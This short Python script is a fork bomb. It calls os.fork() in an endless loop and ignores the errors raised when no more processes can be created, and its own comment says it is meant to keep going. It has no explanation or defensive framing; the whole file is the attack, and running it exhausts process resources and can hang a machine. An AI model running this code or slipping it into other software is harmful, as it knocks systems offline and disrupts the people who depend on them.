# Forks without end, and goes on when no process can be made any more.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
